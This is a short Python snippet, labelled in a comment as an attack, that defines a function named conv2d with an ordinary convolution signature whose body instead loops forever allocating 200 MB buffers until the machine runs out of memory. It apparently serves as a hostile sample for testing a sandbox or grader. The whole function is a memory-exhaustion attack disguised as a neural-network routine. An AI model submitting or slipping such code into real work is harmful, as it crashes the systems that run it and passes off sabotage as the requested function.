# Attack: allocate memory until the machine falls over.
def conv2d(x, weight, bias=None, stride=1, padding=0):
    hoard = []
    while True:
        hoard.append(bytearray(200 << 20))
